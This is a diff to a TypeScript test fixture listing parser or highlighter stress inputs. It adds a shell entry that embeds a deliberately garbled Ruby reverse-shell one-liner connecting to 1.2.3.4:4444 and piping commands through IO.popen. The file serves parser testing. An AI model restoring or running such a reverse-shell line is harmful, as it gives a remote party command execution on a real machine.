@@ -51,6 +51,12 @@ export const found: readonly (readonly [target: string, title: string, input: st
     'a word of thousands of letters and braces that nothing closes',
     `sed -n ${'{/BEGIN/erface=ts-lefttt-outEND/'.repeat(90)}`,
   ],
+  [
+    'shell',
+    'names of inline code that stand for each other, in a loop over what is not known',
+    "for f in $(ls *.md) a b\nfor g in $(ls *.c) d\nruby -e '" +
+      'exitAif fork;c=TCPSocket.new("1.2.3.4",4444L;while(cmd=c.;while(cile(cmd=c.;while(cmd=c.gets);IO.popen(cmd,gets);IO.popen(coEmitmd=c.gets);IO.popen(cmd,gets);IO.popen(coEmit\'',
+  ],
   ['shell', 'a sum of a variable that names itself often', `${'x+=${x:-a} x+=$x$y\n'.repeat(12)}echo $((x + 1))`],
   [
     'patch',
